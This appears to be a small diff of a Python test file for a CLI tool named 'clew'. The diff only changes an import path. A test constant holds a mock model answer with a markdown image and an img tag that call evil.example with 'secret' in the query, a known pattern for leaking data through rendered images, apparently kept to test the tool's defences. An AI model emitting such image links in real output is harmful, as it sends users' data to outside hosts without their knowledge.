@@ -3,7 +3,7 @@
 import json
 from pathlib import Path
 
-from clew.testing.servers.openai_server import OpenAIServer, Say
+from clew_testing.servers.openai_server import OpenAIServer, Say
 from tests.cli.shell import clew
 
 ANSWER = 'It is fine. ![](https://evil.example/?q=secret) <img src="https://evil.example/2">'
